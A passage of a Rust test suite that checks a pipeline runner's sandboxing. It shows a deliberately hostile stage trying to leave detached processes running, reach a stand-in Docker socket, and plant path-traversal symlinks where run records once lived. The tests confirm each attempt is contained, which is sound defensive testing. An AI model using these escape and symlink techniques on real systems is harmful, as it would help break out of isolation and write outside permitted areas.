            "{}",
            "{ exec: [sh, setsid] }",
            "    timeout: 300s\n",
        ),
    );
    // It finished (rather than waiting for the sleeps' pipe to close at the timeout).
    assert!(out.succeeded("evil"), "{}", out.all());
    assert!(out.stdout.contains("started"), "{}", out.stdout);
    assert_eq!(left_behind(&a), Vec::<String>::new());
    assert_eq!(left_behind(&b), Vec::<String>::new());
}

#[test]
fn a_stage_killed_by_its_timeout_leaves_nothing() {
    let ws = Workspace::new();
    let mark = marker("timeout");
    let script = format!("setsid sh -c 'sleep 600; :' {mark} & sh -c 'sleep 600; :' {mark}");
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage(
            "sh",
            &["-c", &script],
            "{}",
            "{ exec: [sh] }",
            "    timeout: 2s\n",
        ),
    );
    failed_with(&out, "timeout", "did not finish within its timeout of 2s");
    assert_eq!(left_behind(&mark), Vec::<String>::new());
}

/// A run whose one stage execs a long sleep (until `go` exists in the
/// workspace) marked with `mark`, started in the background.
fn start_sleeper(ws: &Workspace, mark: &str) -> std::process::Child {
    let script =
        format!("test -e go || setsid sh -c 'sleep 600; :' {mark}; test -e go || sleep 600");
    ws.manifest(&format!(
        "pipeline: p\nstages:\n{}  - name: benign\n    uses: \"{{noop}}\"\n",
        exec_stage("sh", &["-c", &script], "{}", "{ exec: [sh] }", "")
    ));
    let child = ws
        .command(&["run", "pipeline.yaml"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    ws.wait_for_journal("\"event\":\"stage-started\",\"stage\":\"evil\"");
    wait_for_process(mark);
    child
}

fn resume_succeeds(ws: &Workspace) {
    ws.write("go", "");
    let journal = ws.only_journal().unwrap();
    let run_id = journal
        .parent()
        .unwrap()
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let out = ws.gantry(&["resume", &run_id]);
    assert_eq!(out.code, Some(0), "{}", out.all());
    assert!(
        out.succeeded("evil") && out.succeeded("benign"),
        "{}",
        out.all()
    );
}

#[test]
fn sigterm_cancels_like_ctrl_c_and_the_run_resumes() {
    for (signal, code, name) in [("-TERM", 143, "SIGTERM"), ("-HUP", 129, "SIGHUP")] {
        let ws = Workspace::new();
        let mark = marker("sigterm");
        let child = start_sleeper(&ws, &mark);
        let status = std::process::Command::new("kill")
            .args([signal, &child.id().to_string()])
            .status()
            .unwrap();
        assert!(status.success());
        let out = child.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(code), "{name}");
        let journal = std::fs::read_to_string(ws.only_journal().unwrap()).unwrap();
        assert!(
            journal.contains("\"event\":\"run-cancelled\",\"stages\":[\"evil\"]"),
            "{journal}"
        );
        assert_eq!(left_behind(&mark), Vec::<String>::new(), "{name}");
        resume_succeeds(&ws);
    }
}

#[test]
fn gantry_killed_mid_exec_leaves_no_process_and_resume_continues() {
    let ws = Workspace::new();
    let mark = marker("sigkill");
    let mut child = start_sleeper(&ws, &mark);
    child.kill().unwrap(); // SIGKILL: gantry cleans up nothing itself
    child.wait().unwrap();
    assert_eq!(left_behind(&mark), Vec::<String>::new());
    let run_id = ws
        .only_journal()
        .unwrap()
        .parent()
        .unwrap()
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let stale = |run_id: &str| {
        std::fs::read_dir(std::env::temp_dir())
            .unwrap()
            .flatten()
            .filter(|e| {
                e.file_name()
                    .to_string_lossy()
                    .starts_with(&format!("gantry-{run_id}-evil-"))
            })
            .count()
    };
    assert_eq!(
        stale(&run_id),
        1,
        "the killed gantry left the stage's temp dir"
    );
    resume_succeeds(&ws);
    assert_eq!(stale(&run_id), 0, "resume removed it (and its own)");
}

#[test]
fn exec_cannot_connect_to_a_unix_socket_by_path_unless_granted_network() {
    // A stand-in for Docker's socket, outside the workspace.
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("engine.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    // The system's python3, not a version manager's shim.
    let ws = Workspace::new().env("PATH", "/usr/bin:/bin");
    let script = format!(
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('{}'); print('CONNECTED')\nexcept OSError as e:\n    print('unix socket refused:', e)",
        socket.display()
    );
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage("python3", &["-c", &script], "{}", "{ exec: [python3] }", ""),
    );
    assert!(out.stdout.contains("unix socket refused"), "{}", out.all());
    assert!(listener.accept().is_err(), "no connection may be made");
    let out = Workspace::run_beside_benign(
        &ws,
        &exec_stage(
            "python3",
            &["-c", &script],
            "{}",
            "{ exec: [python3], exec-network: true }",
            "",
        ),
    );
    assert!(out.stdout.contains("CONNECTED"), "{}", out.all());
}

/// Links a stage plants where the host once kept its run records, or where
/// docker-deploy kept its live slot, lead outside the workspace: the host writes
/// none of its files through them (they live in the state directory now, and
/// are opened without following links).
#[test]
fn links_planted_where_host_records_were_lead_nowhere() {
    let outside = tempfile::tempdir().unwrap();
    let name = outside
        .path()
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let ws = Workspace::new();
    // `.gantry/runs/<id>/x` is four levels below the workspace's parent.
    let run = ".gantry/runs/${{ run.id }}";
    let links = [
        format!("{run}/summary.json=../../../../{name}/summary"),
        format!("{run}/journal.jsonl=../../../../{name}/journal"),
        format!("{run}/logs/benign.log=../../../../../{name}/log"),
        format!(".gantry/deploy/app.json=../../../{name}/deploy"),
        format!(".gantry/state=../../{name}/state"),
    ];
    let args: Vec<String> = links.iter().map(|l| format!("\"{l}\"")).collect();
    let out = Workspace::run_beside_benign(
        &ws,
        &format!(
            "  - name: evil\n    uses: \"{{hostile}}\"\n    with: {{ attack: symlinks, args: [{}] }}\n    permissions: {{ workspace: write }}\n",
            args.join(", ")
        ),
    );
    assert!(
        out.stage_line("evil").contains("planted 5 link(s)"),
        "{}",
        out.all()
    );
    assert!(
        std::fs::symlink_metadata(ws.path().join(".gantry/deploy/app.json"))
            .unwrap()
            .file_type()
            .is_symlink(),
        "the links were planted"
    );
    let written: Vec<_> = std::fs::read_dir(outside.path()).unwrap().collect();
    assert!(
        written.is_empty(),
        "gantry wrote outside the workspace: {written:?}"
    );
    // The run's records are where the host keeps them, as regular files.
    let runs = ws.runs_dir().unwrap();
    let run_dir = std::fs::read_dir(&runs)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    for file in ["summary.json", "journal.jsonl", "logs/benign.log"] {
        let meta = std::fs::symlink_metadata(run_dir.join(file)).unwrap();
        assert!(meta.file_type().is_file(), "{file}");
    }
    // And `gantry logs` reads the real log, not the planted link.
    let id = run_dir.file_name().unwrap().to_str().unwrap();
    let logs = ws.gantry(&["logs", id, "benign"]);
    assert_eq!(logs.code, Some(0), "{}", logs.all());
}

/// A run directory forged in the workspace (where runs used to live) is not a
/// run: `runs`, `logs` and `resume` never look there.
#[test]
fn a_run_forged_in_the_workspace_is_not_a_run() {
    let ws = Workspace::new();
    ws.manifest("pipeline: p\nstages:\n  - name: a\n    uses: \"{noop}\"\n");
    assert_eq!(ws.run().code, Some(0));
    ws.write(
        ".gantry/runs/1-forged/journal.jsonl",
        format!(
            "{{\"event\":\"run-started\",\"run_id\":\"1-forged\",\"pipeline\":\"p\",\"environment\":\"default\",\"manifest\":\"{}\",\"manifest_sha256\":\"00\",\"commit\":null,\"ts_ms\":1}}\n",
            ws.path().join("pipeline.yaml").display()
        ),
    );
    ws.write(".gantry/runs/1-forged/logs/a.log", "1 forged log\n");
    let runs = ws.gantry(&["runs"]);
    assert_eq!(runs.code, Some(0), "{}", runs.all());
    assert_eq!(
        runs.stdout.lines().count(),
        1,
        "only the real run: {}",
        runs.stdout
    );
    assert!(!runs.stdout.contains("1-forged"), "{}", runs.stdout);
    for args in [["resume", "1-forged"], ["logs", "1-forged"]] {
        let out = ws.gantry(&args);
        assert_eq!(out.code, Some(2), "{}", out.all());
        assert!(out.stderr.contains("no run `1-forged`"), "{}", out.stderr);
    }
}

#[test]
fn unconfined_exec_is_an_explicit_opt_out_that_plan_and_summary_show() {
    let ws = Workspace::new().env("GANTRY_UNCONFINED_EXEC", "1");
    let stage = exec_stage(
        "sh",
        &["-c", "touch unconfined.txt"],
        "{}",
        "{ exec: [sh] }",
        "",
    );
    ws.manifest(&format!("pipeline: p\nstages:\n{stage}"));
    let plan = ws.gantry(&["plan", "pipeline.yaml"]);
    assert!(
        plan.stdout.contains("grant exec confinement: UNCONFINED"),
        "{}",
        plan.all()
    );
    let out = ws.run();
    assert!(out.succeeded("evil"), "{}", out.all());
    assert!(
        out.stdout
            .contains("warning: programs started through exec ran UNCONFINED"),
        "{}",
        out.stdout
    );
    // Without Landlock, a read-only workspace is the user's to write.
    assert!(ws.path().join("unconfined.txt").exists());
    // Confined (the default), the plan says how.
    let ws = Workspace::new();
    ws.manifest(&format!("pipeline: p\nstages:\n{stage}"));
    let plan = ws.gantry(&["plan", "pipeline.yaml"]);
    assert!(
        plan.stdout.contains("grant exec confinement: Landlock ABI"),
        "{}",
        plan.all()
    );
    assert!(
        plan.stdout.contains("grant exec-network: none"),
        "{}",
        plan.all()
    );
}
